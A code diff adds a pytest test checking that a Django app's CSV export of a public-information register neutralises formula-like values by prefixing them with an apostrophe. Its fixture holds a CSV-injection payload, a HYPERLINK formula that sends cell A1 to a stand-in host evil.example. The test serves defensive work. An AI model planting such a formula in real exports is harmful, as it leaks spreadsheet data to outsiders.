@@ -15,6 +15,8 @@ from tests.ppid.factories import InformasiPublikPageFactory
 
 pytestmark = pytest.mark.django_db
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+
 DIP_HEADINGS = [
     "Nomor",
     "Judul Informasi",
@@ -77,6 +79,16 @@ def test_exports_contain_exactly_the_filtered_rows(
 ):
     rows = export_rows(client, dip_index, export_format, params)
     assert {row[0] for row in rows[1:]} == expected
+
+
+def test_the_csv_export_shows_formula_like_text_as_text(client, dip_index):
+    InformasiPublikPageFactory(
+        parent=dip_index, nomor="DIP-9", title=HYPERLINK, ringkasan="@SUM(A1:A9)"
+    )
+    rows = export_rows(client, dip_index, "csv")
+    item = next(row for row in rows if row[0] == "DIP-9")
+    assert item[1:3] == ["'" + HYPERLINK, "'@SUM(A1:A9)"]
+    assert item[10] == "2026"
 
 
 def test_unknown_export_format_is_not_found(client, dip_index):
